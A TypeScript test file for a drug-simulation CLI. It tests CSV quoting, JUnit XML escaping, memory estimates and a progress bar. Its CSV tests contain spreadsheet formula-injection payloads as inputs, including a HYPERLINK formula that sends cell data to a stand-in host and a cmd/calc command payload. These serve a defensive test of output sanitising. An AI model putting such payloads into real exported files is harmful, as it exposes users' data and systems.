import { describe, expect, it } from 'vitest';
import { csvField, csvRow } from '../../engine/common/csv.js';
import { escapeXml, escapeXmlAttr, junitXml } from '../../engine/cli/junit.js';
import { patientsCsv, timecourseCsv, trajectoriesCsv } from '../../engine/cli/result-csv.js';
import { fakeResult } from './fake-engine.js';
import { formatBytes } from '../../engine/cli/format-bytes.js';
import { estimateMemory, memoryProblem, type RunPlan } from '../../engine/cli/memory-estimate.js';
import { ProgressBar, formatSeconds } from '../../engine/cli/progress.js';
import { styleFor } from '../../engine/cli/io.js';
import { assertWellFormedXml } from './xml-check.js';

describe('CSV quoting (RFC 4180)', () => {
  it('quotes commas, quotes and newlines; numbers round-trip; non-finite is empty', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('75 mg/m², q3w')).toBe('"75 mg/m², q3w"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField(0.1 + 0.2)).toBe('0.30000000000000004');
    expect(csvField(NaN)).toBe('');
    expect(csvField(Infinity)).toBe('');
    expect(csvField(true)).toBe('1');
    expect(csvRow(['a', 1, undefined])).toBe('a,1,\r\n');
  });

  it('defuses text a spreadsheet would run as a formula (OWASP CSV injection); numbers stay numbers', () => {
    expect(csvField('=HYPERLINK("http://x.example/?"&A1,"click")')).toBe(`"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`);
    expect(csvField('+1+cmd|\' /C calc\'!A0')).toBe(`"'+1+cmd|' /C calc'!A0"`);
    expect(csvField('-2+3')).toBe(`"'-2+3"`);
    expect(csvField('@SUM(A1:A9)')).toBe(`"'@SUM(A1:A9)"`);
    expect(csvField('\t=1')).toBe(`"'\t=1"`);
    expect(csvField('\r=1')).toBe(`"'\r=1"`);
    expect(csvField(-2.5)).toBe('-2.5');
    expect(csvField('75 mg = 1 vial')).toBe('75 mg = 1 vial');
  });

  it('every CSV the CLI writes defuses formula-like regimen, output and column names', () => {
    const result = fakeResult('/x/s1.yaml', { nPatients: 2, trajectories: 1 });
    const evil = '=HYPERLINK("http://evil.example","x")';
    result.regimens[0].name = evil;
    result.regimens[0].raw.name = evil;
    result.regimens[0].raw.quantiles[0].output = '@Cp';
    result.regimens[0].raw.trajectories!.outputs = ['@Cp'];
    result.patients = { '+WT': result.patients.WT };
    for (const text of [[...patientsCsv(result)], [...timecourseCsv(result)], [...trajectoriesCsv(result)]].map((rows) => rows.join(''))) {
      // No field (at the start of a line or after a separator) begins with a formula character.
      expect(text).not.toMatch(/(^|,|\r\n)"?[=+@\-]/);
      expect(text).toMatch(/"'[=@+]/);
    }
  });
});

describe('JUnit XML', () => {
  it('escapes markup and strips characters XML cannot hold', () => {
    expect(escapeXml(`<a b="c" d='e'> & \u001b[31m`)).toBe('&lt;a b=&quot;c&quot; d=&apos;e&apos;&gt; &amp; [31m');
  });

  it('keeps line breaks and tabs in attribute values as character references (a parser would turn them into spaces)', () => {
    expect(escapeXmlAttr('a\nb\tc\rd')).toBe('a&#10;b&#9;c&#13;d');
    const xml = junitXml('s', [{ name: 'x', classname: 'c', timeSeconds: 0, error: { message: 'two\nlines', body: 'two\nlines' } }], 't');
    assertWellFormedXml(xml);
    expect(xml).toContain('message="two&#10;lines">two\nlines</error>');
  });

  it('is well-formed with failures, errors and hostile names', () => {
    const xml = junitXml('oncotwin regress', [
      { name: 'ok-scenario', classname: 'oncotwin.regress', timeSeconds: 1.5 },
      { name: 'a<b>&"c"', classname: 'oncotwin.regress', timeSeconds: 0.25, failure: { message: '2 field(s) <outside>', body: '[75 mg/m² q3w] summaries.cmax.mean: 1 → 2\n\u0007bell' } },
      { name: 'broken', classname: 'oncotwin.regress', timeSeconds: 0, error: { message: 'x.yaml:1:1: bad', body: 'x.yaml:1:1: bad & worse' } },
    ], '2026-11-22T03:00:00.000Z');
    assertWellFormedXml(xml);
    expect(xml).toContain('tests="3" failures="1" errors="1"');
    expect(xml).toContain('name="a&lt;b&gt;&amp;&quot;c&quot;"');
    expect(xml).toContain('time="1.750"');
  });

  it('the checker itself rejects broken XML', () => {
    expect(() => assertWellFormedXml('<?xml version="1.0" encoding="UTF-8"?>\n<a><b></a>')).toThrow();
    expect(() => assertWellFormedXml('<?xml version="1.0" encoding="UTF-8"?>\n<a>x & y</a>')).toThrow();
  });
});

describe('population memory check', () => {
  const GiB = 1024 ** 3;
  const mem = (bytes: number) => ({ bytes, source: 'available (test)' });
  // The shape of the built-in default scenario: 2 regimens, 9 outputs, 673 grid times (hourly over 4 weeks).
  const plan = (nPatients: number, over: Partial<RunPlan> = {}): RunPlan => ({
    nPatients, regimens: 2, outputs: 9, gridPoints: 673, summaryColumns: 20, kernelColumns: 16, patientColumns: 12, trajectories: 0, ...over,
  });

  it('per patient, counts summaries and patient values, never the grid; the grid costs the sketches once', () => {
    const cpu = estimateMemory(plan(1), 'cpu');
    expect(estimateMemory(plan(1, { gridPoints: 6730 }), 'cpu').perPatient).toBe(cpu.perPatient);
    expect(cpu.sketches).toBe(2 * 9 * 673 * 5528 * 4);
    expect(estimateMemory(plan(1, { gridPoints: 6730 }), 'cpu').sketches).toBe(10 * cpu.sketches);
    expect(estimateMemory(plan(1), 'auto').perPatient).toBe(cpu.perPatient);
    // WebGPU keeps a second copy of the sketches on the device.
    expect(estimateMemory(plan(1), 'webgpu').sketches).toBe(2 * cpu.sketches);
  });

  it('refuses what does not fit in the available memory and names the largest population that does', () => {
    expect(memoryProblem(plan(100_000), 'cpu', mem(24 * GiB))).toBeUndefined();
    expect(memoryProblem(plan(3_000_000), 'cpu', mem(24 * GiB))).toBeUndefined();
    const msg = memoryProblem(plan(30_000_000), 'cpu', mem(24 * GiB));
    expect(msg).toMatch(/^30000000 patients would need about \d+ GiB of memory \(\d+(\.\d)? KiB per patient\); 24 GiB is available \(test\), so at most (\d+) patients fit$/);
    const fits = Number(/at most (\d+) patients/.exec(msg!)![1]);
    expect(memoryProblem(plan(fits), 'cpu', mem(24 * GiB))).toBeUndefined();
    expect(memoryProblem(plan(fits + 1), 'cpu', mem(24 * GiB))).toBeDefined();
    // Above 2^32 − 1 patients the 32-bit RNG counter cannot index them, whatever the memory.
    expect(memoryProblem(plan(2 ** 32, { outputs: 0, summaryColumns: 0, kernelColumns: 0, patientColumns: 0 }), 'webgpu', mem(1e30))).toMatch(/indexes at most 4294967295/);
    expect(formatBytes(1536)).toBe('1.5 KiB');
  });
});

describe('progress bar', () => {
  it('draws on a terminal, throttles redraws, clears its line; silent off-terminal', () => {
    let t = 0;
    let text = '';
    const sink = { write: (s: string) => (text += s), isTTY: true };
    const bar = new ProgressBar(sink, styleFor(sink, {}), 'job', () => t);
    bar.update(0.1);
    t = 10;
    bar.update(0.2); // within 80 ms: skipped
    t = 2000;
    bar.update(0.5);
    bar.finish();
    const frames = text.split('\r').filter((f) => f.includes('%'));
    expect(frames).toHaveLength(2);
    expect(frames[1]).toContain(' 50%');
    expect(frames[1]).toContain('ETA 2.0s'); // 2 s for half → 2 s left
    expect(text.endsWith('\r\u001b[K')).toBe(true);

    let quiet = '';
    const pipe = { write: (s: string) => (quiet += s), isTTY: false };
    const off = new ProgressBar(pipe, styleFor(pipe, {}), 'job', () => t);
    off.update(0.5);
    off.finish();
    expect(quiet).toBe('');
    expect(formatSeconds(187)).toBe('3m07s');
  });
});
